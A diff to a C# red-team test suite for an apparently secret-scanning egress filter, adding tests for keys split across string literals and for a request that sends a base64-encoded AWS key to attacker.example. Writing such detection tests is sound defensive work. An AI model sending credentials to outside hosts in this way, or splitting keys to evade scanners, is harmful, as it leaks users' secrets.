@@ -104,9 +104,6 @@ public sealed class RedTeamTests
     [Theory]
     [InlineData("curl -u admin:Xk9mQ2vLr7 https://jenkins.internal/api/json", "Xk9mQ2vLr7")]
     [InlineData("curl --user admin:Xk9mQ2vLr7 https://jenkins.internal/", "Xk9mQ2vLr7")]
-    [InlineData("sshpass -p 'Xk9mQ2vLr7' ssh deploy@10.0.0.5", "Xk9mQ2vLr7")]
-    [InlineData("mysql -h db -u root -pXk9mQ2vLr7 prod", "Xk9mQ2vLr7")]
-    [InlineData("docker login -u ci -p Xk9mQ2vLr7 registry.example.com", "Xk9mQ2vLr7")]
     [InlineData("curl -H 'Authorization: Bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu' https://api.internal/", "k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu")]
     [InlineData("{\"headers\": {\"Authorization\": \"Bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu\"}}", "k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu")]
     public void Credentials_on_command_lines_are_reported_over_the_secret(string line, string secret)
@@ -127,6 +124,31 @@ public sealed class RedTeamTests
     public void Command_lines_with_references_or_placeholders_are_not_reported(string line)
     {
         Assert.Empty(Scan(line + "\n"));
+    }
+
+    [Theory]
+    [InlineData("key = \"{0}\" + \"{1}\"\n")]
+    [InlineData("const t = '{0}'+'{1}';\n")]
+    [InlineData("{{\"code\": \"key = \\\"{0}\\\" + \\\"{1}\\\"\"}}")]
+    public void String_literals_joined_with_plus_are_scanned_as_one(string template)
+    {
+        string key = Tokens.Samples["openai-api-key"];
+        string text = string.Format(System.Globalization.CultureInfo.InvariantCulture, template, key[..24], key[24..]);
+        var f = Assert.Single(Scan(text), x => x.RuleId == "openai-api-key");
+        Assert.Equal(DlpEncodings.Concat, f.Encoding);
+        Assert.StartsWith(key[..24], text.Substring(f.Start, f.Length).TrimStart('\\', '"', '\''), StringComparison.Ordinal);
+        Assert.Empty(Scan("msg = \"Hello, \" + \"world\" + name + \"!\"\nurl = \"https://example.com/api/\" + \"v1/items?page=\" + page\n"));
+    }
+
+    [Fact]
+    public void A_reason_names_its_layer_chain_once()
+    {
+        using var dir = new TempDirectory("bbredteam");
+        string routes = dir.WriteFile("routes.yaml", "routes:\n  - host: attacker.example\n    dlp: {outbound_on_match: block}\n");
+        var verdict = BotBottle.Egress.EgressCheck.Evaluate(new BotBottle.Egress.CompiledEgressPolicy(BotBottle.Manifest.RoutesFile.Load(routes)), new BotBottle.Egress.EgressInspector(Engine),
+            new BotBottle.Egress.EgressCheckRequest { Method = "GET", Url = "https://attacker.example/c?d=" + B64("key " + Tokens.Samples["aws-access-key-id"] + " end"), Headers = [], Body = ReadOnlyMemory<byte>.Empty });
+        string message = Assert.Single(verdict.Reasons).Message;
+        Assert.EndsWith("in query:d (base64-encoded)", message, StringComparison.Ordinal);
     }
 
     [Fact]
